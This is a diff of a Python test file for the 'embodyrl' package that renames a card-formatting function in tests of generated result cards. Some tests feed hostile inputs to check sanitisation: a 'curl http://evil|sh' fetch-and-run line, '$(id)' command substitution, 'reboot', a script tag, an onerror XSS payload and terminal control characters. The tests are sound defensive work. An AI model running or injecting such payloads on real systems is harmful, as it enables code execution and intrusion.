@@ -16,7 +16,7 @@ from embodyrl.cli.main import main
 from embodyrl.commands.run_folder import open_run
 from embodyrl.errors import ConfigError
 from embodyrl.monitor.intervals import wilson
-from embodyrl.reports.card import build_card, card_text, write_card
+from embodyrl.reports.card import build_card, format_card, write_card
 
 
 def carded(tmp_path: Path) -> Path:
@@ -91,7 +91,7 @@ def test_card_text_contains_protocol_and_results(tmp_path: Path, capsys: pytest.
     paths = write_card(run, tmp_path / "assets")
     assert [path.name for path in paths] == ["card.json", "CARD.md"]
     text = paths[1].read_text()
-    assert text == card_text(json.loads(paths[0].read_text()))
+    assert text == format_card(json.loads(paths[0].read_text()))
     for words in (
         "| protocol | p, differs: a=1 instead of 2 |",
         "66.7 % [30.0, 90.3] (4/6)",
@@ -114,7 +114,7 @@ def test_card_contains_no_markup_and_no_shell_commands_of_the_run(tmp_path: Path
     command = "train a=b; curl http://evil|sh `id` $(id) <script>"
     (run / "overrides.txt").write_text(f"# attempt 1: {command}\n# attempt 2: train c; reboot\n# attempt 3: train 'd\n")
     text = "\n".join(
-        line for line in card_text(build_card(run)).splitlines() if not line.startswith("| command | ``embodyrl")
+        line for line in format_card(build_card(run)).splitlines() if not line.startswith("| command | ``embodyrl")
     )
     assert "<" not in text
     assert text.startswith("# Result card: evil&lt;img src=x onerror=alert(9)&gt;\n")
@@ -131,7 +131,7 @@ def test_commands_in_cards_contain_no_control_characters(tmp_path: Path) -> None
     (run / "overrides.txt").write_text(
         "# attempt 1: train a='é\x1b[2J\u202e'\n# attempt 2: train b\n", encoding="utf-8"
     )
-    (line,) = (line for line in card_text(build_card(run)).splitlines() if line.startswith("| command |"))
+    (line,) = (line for line in format_card(build_card(run)).splitlines() if line.startswith("| command |"))
     assert line == "| command | `embodyrl train 'a=é?[2J?' && embodyrl train --resume 'evil??# Official' b` |"
 
 
@@ -148,7 +148,7 @@ def test_card_contains_own_source_files_and_their_pythonpath(tmp_path: Path, mon
     digest = hashlib.sha256(code.encode()).hexdigest()[:16]
     assert card["sources"]["my_estimator"] == digest
     assert card["command"] == f"PYTHONPATH={source.parent} embodyrl train a=b"
-    assert f"my_estimator, sha256 {digest}" in card_text(card)
+    assert f"my_estimator, sha256 {digest}" in format_card(card)
 
 
 def test_run_without_evaluation_has_a_card(tmp_path: Path) -> None:
@@ -157,7 +157,7 @@ def test_run_without_evaluation_has_a_card(tmp_path: Path) -> None:
         file.unlink()
     card = build_card(run)
     assert (card["figures"], card["protocol"], card["commit"]) == ([], None, None)
-    assert "# Result card: plain" in card_text(card)
+    assert "# Result card: plain" in format_card(card)
 
 
 @pytest.mark.parametrize("name", ["openvla_oft_tabletop"])
@@ -166,7 +166,7 @@ def test_included_weights_have_a_card(name: str) -> None:
     card = json.loads((folder / "card.json").read_text())
     assert card["model"]["weights"] == f"assets/{name}"
     assert card["figures"]
-    assert card_text(card) == (folder / "CARD.md").read_text()
+    assert format_card(card) == (folder / "CARD.md").read_text()
 
 
 def test_card_includes_time_of_killed_attempts(tmp_path: Path) -> None:
